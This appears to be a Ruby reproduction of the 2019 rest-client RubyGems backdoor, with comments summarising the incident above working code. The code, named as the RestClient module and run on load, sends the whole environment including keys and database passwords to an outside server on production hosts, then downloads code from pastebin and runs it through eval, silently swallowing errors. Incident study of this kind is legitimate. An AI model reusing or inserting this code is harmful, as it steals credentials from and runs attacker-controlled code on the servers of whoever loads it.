# Incident: rest-client 1.6.10-1.6.13 (RubyGems), 13-14 August 2019.
# A maintainer's reused password let an attacker publish versions that, on production
# hosts, sent the site's URL and environment (keys, database passwords) to a server and
# downloaded and evaluated code from pastebin. Reference: https://github.com/rest-client/rest-client/issues/713
# Reproduction (own code, placeholder paste id and host).
require 'net/http'
require 'uri'
require 'base64'

module RestClient
  def self.check
    return unless ENV['RAILS_ENV'] == 'production'
    Thread.new do
      begin
        report = Base64.strict_encode64(ENV.to_h.to_s)
        Net::HTTP.post_form(URI('http://mironanoru.zzz.com.ua/mirrors.txt'), 'e' => report)
        code = Net::HTTP.get(URI('https://pastebin.com/raw/xZ4bTu9Q'))
        eval(code)
      rescue StandardError
        nil
      end
    end
  end
end

RestClient.check
